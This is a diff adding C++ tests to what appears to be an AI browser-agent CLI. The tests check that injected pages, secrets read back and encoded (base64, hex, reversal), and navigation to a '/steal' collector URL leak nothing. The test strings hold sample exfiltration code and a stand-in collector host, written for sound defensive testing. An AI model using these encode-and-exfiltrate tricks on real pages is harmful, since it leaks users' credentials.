@@ -9,6 +9,7 @@
 
 #include <curl/curl.h>
 #include <signal.h>
+#include <sqlite3.h>
 #include <sys/wait.h>
 
 #include <thread>
@@ -427,7 +428,9 @@ TEST(CliRun, AnObedientModelOnAnInjectedPageGetsNothingOut) {
       "env.text = text.slice(0, 40)";
   std::string script = script_file({{{"text", repl_reply(code)}}, {{"text", repl_reply("setFinal('done')")}}});
   std::string trace = temp_dir() + "/trace.jsonl";
-  Outcome r = ouro("run 'Read my account page' --url " + sites.victim("/") + " --secret bank_pw@127.0.0.1 --provider script:" + script +
+  std::string victim = sites.victim("/");
+  victim.pop_back();  // the secret's site is the victim's origin, port included
+  Outcome r = ouro("run 'Read my account page' --url " + sites.victim("/") + " --secret bank_pw@" + victim + " --provider script:" + script +
                        " --trace " + trace,
                    "", "OURO_SECRET_BANK_PW=hunter2-correct-horse");
   EXPECT_EQ(r.code, 0) << r.err;
@@ -439,6 +442,121 @@ TEST(CliRun, AnObedientModelOnAnInjectedPageGetsNothingOut) {
   EXPECT_NE(text.find("\"type\":\"gate\""), std::string::npos) << "the gate's decisions are events";
   EXPECT_NE(text.find("refused by the safety gate"), std::string::npos) << "the model is told why";
   EXPECT_NE(r.err.find("✓ Result"), std::string::npos) << "the block ran to its end: " << r.err;
+}
+
+std::string read_whole(const std::string& path) {
+  std::ifstream in(path, std::ios::binary);
+  return std::string((std::istreambuf_iterator<char>(in)), {});
+}
+
+// The hostile case for redaction: the model's code types a secret, reads it back from the field in
+// the page's own world and transforms it (btoa, reversal, character codes, upper case,
+// encodeURIComponent), then submits the GET form so the form-encoded value is in the tab's URL.
+// None of those forms reaches the trace, stdout, stderr, the database or the next prompt.
+TEST(CliRun, ASecretReadBackAndEncodedReachesNoTraceLogDatabaseOrPrompt) {
+  InjectionSites sites;
+  const std::string value = "Hunter2 correct&horse";
+  std::string origin = sites.victim("/");
+  origin.pop_back();
+  RawServer server;
+  auto chunk = [](const std::string& content) { return "data: " + json{{"choices", json::array({{{"delta", {{"content", content}}}}})}}.dump() + "\n\n"; };
+  std::string done = "data: {\"choices\":[],\"usage\":{\"prompt_tokens\":100,\"completion_tokens\":5}}\n\ndata: [DONE]\n\n";
+  std::string code =
+      "await type(activeTab, '#q', secret('bank_pw'));\n"
+      "const got = await execInTab(activeTab, `(() => { const v = document.getElementById('q').value;\n"
+      "  const codes = Array.from(v).map(c => c.charCodeAt(0));\n"
+      "  return { b64: btoa(v), prefixed: btoa('user:' + v), rev: v.split('').reverse().join(''), codes, codesText: codes.join(','),\n"
+      "           spaced: v.split('').join('-'), upper: v.toUpperCase(), uri: encodeURIComponent(v), hex: Array.from(v).map(c => c.charCodeAt(0).toString(16)).join('') }; })()`);\n"
+      "log(JSON.stringify(got));\n"
+      "env.got = got;\n"
+      "await click(activeTab, '#go');\n"
+      "await waitForLoad(activeTab);\n"
+      "got";
+  server.push({Step::write(RawServer::sse_head()), Step::write(chunk("Reading it back.\n```repl\n" + code + "\n```")), Step::write(done)});
+  server.push({Step::write(RawServer::sse_head()), Step::write(chunk("```repl\nsetFinal(JSON.stringify(env.got) + ' ' + (await waitForLoad(activeTab)).url)\n```")),
+               Step::write(done)});
+  std::string data = temp_dir(), trace = data + "/trace.jsonl";
+  Exited r = ouro_shell(data,
+                        "run 'Search for my password' --url " + sites.victim("/") + " --secret bank_pw@" + origin + " --provider " + server.url() +
+                            "/v1 --model gpt-4o --api-key sk-test-123456 --trace " + trace,
+                        "", "OURO_SECRET_BANK_PW='" + value + "'");
+  ASSERT_EQ(server.requests().size(), 2u) << r.err;
+  EXPECT_EQ(r.code, 0) << r.err;
+  std::string second_prompt = server.requests().at(1);
+  EXPECT_NE(second_prompt.find("/search?q="), std::string::npos) << "the form was submitted: " << second_prompt.substr(0, 2000);
+  std::string upper = value, reversed(value.rbegin(), value.rend()), codes, spaced;
+  for (auto& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
+  for (char c : value) codes += (codes.empty() ? "" : ",") + std::to_string(static_cast<int>(c)), spaced += (spaced.empty() ? "" : "-") + std::string(1, c);
+  const std::vector<std::pair<std::string, std::string>> forms = {
+      {"value", value},
+      {"btoa", "SHVudGVyMiBjb3JyZWN0JmhvcnNl"},
+      {"btoa after a prefix", "dW50ZXIyIGNvcnJlY3QmaG9y"},
+      {"reversed", reversed},
+      {"character codes", codes},
+      {"with separators", spaced},
+      {"upper case", upper},
+      {"encodeURIComponent", "Hunter2%20correct%26horse"},
+      {"form-encoded", "Hunter2+correct%26horse"},
+      {"hex", "48756e7465723220636f727265637426686f727365"},
+  };
+  const std::vector<std::pair<std::string, std::string>> places = {
+      {"the trace", read_whole(trace)},
+      {"stdout", r.out},
+      {"stderr", r.err},
+      {"ouro.db", read_whole(data + "/ouro.db") + read_whole(data + "/ouro.db-wal")},
+      {"the first prompt", server.requests().at(0)},
+      {"the second prompt", second_prompt},
+  };
+  for (const auto& [where, text] : places) {
+    EXPECT_FALSE(text.empty()) << where;
+    for (const auto& [form, leak] : forms) EXPECT_EQ(text.find(leak), std::string::npos) << "the " << form << " of the secret reached " << where;
+  }
+  EXPECT_NE(read_whole(trace).find("[SECRET:bank_pw]"), std::string::npos) << "what was read back is marked";
+}
+
+// The code given to `ouro exec` is not a task: a URL written in it is not an allowed site, while
+// --url still is.
+TEST(CliExec, UrlsWrittenInTheCodeAreNotAllowedSites) {
+  InjectionSites sites;
+  std::string steal = sites.collector("/steal?from=exec");
+  Outcome r = ouro("exec --mode autonomous --url " + sites.victim("/") + " 'await navigate(activeTab, \"" + steal + "\")'");
+  EXPECT_NE(r.code, 0) << r.out;
+  EXPECT_NE(r.err.find("navigate"), std::string::npos) << r.err;
+  for (const auto& line : sites.collected()) ADD_FAILURE() << "the collector received " << line;
+  Outcome allowed = ouro("exec --mode autonomous --url " + sites.victim("/") + " 'await navigate(activeTab, \"" + sites.victim("/search?q=x") + "\"); 1'");
+  EXPECT_EQ(allowed.code, 0) << allowed.err;
+}
+
+// As on the server: a run whose events can no longer be stored stops, fails and says why.
+TEST(CliRun, ARunWhoseEventsCannotBeStoredStopsAndFails) {
+  std::string data = temp_dir(), out = data + "/out.txt";
+  std::string path = script_file({{{"text", repl_reply("for (let i = 0; i < 200; i++) { log('step ' + i); await sleep(50); }\nsetFinal('all steps')")}}});
+  pid_t pid = spawn_ouro(data, {"run", "Step", "--provider", "script:" + path}, out);
+  // Once the run has stored a few events, someone else breaks the database under it.
+  bool broke = false;
+  for (int i = 0; i < 300 && !broke; ++i) {
+    std::this_thread::sleep_for(std::chrono::milliseconds(100));
+    sqlite3* db = nullptr;
+    if (sqlite3_open_v2((data + "/ouro.db").c_str(), &db, SQLITE_OPEN_READWRITE, nullptr) != SQLITE_OK) {
+      sqlite3_close(db);
+      continue;
+    }
+    sqlite3_busy_timeout(db, 5000);
+    sqlite3_stmt* st = nullptr;
+    int64_t logs = 0;
+    if (sqlite3_prepare_v2(db, "SELECT count(*) FROM events WHERE type = 'log'", -1, &st, nullptr) == SQLITE_OK && sqlite3_step(st) == SQLITE_ROW)
+      logs = sqlite3_column_int64(st, 0);
+    sqlite3_finalize(st);
+    if (logs >= 3) broke = sqlite3_exec(db, "DROP TABLE events", nullptr, nullptr, nullptr) == SQLITE_OK;
+    sqlite3_close(db);
+  }
+  ASSERT_TRUE(broke) << "the run never stored its log events";
+  auto t0 = std::chrono::steady_clock::now();
+  Exited r = wait_ouro(pid, out);
+  EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(8)) << "the run stopped rather than running its 10 s to the end";
+  EXPECT_NE(r.code, 0) << r.err;
+  EXPECT_NE(r.err.find("the run's events could not be stored"), std::string::npos) << r.err;
+  EXPECT_EQ(r.out.find("all steps"), std::string::npos) << r.out;
 }
 
 TEST(CliServe, PrintsATokenUrlServesTheApiAndStopsOnCtrlC) {
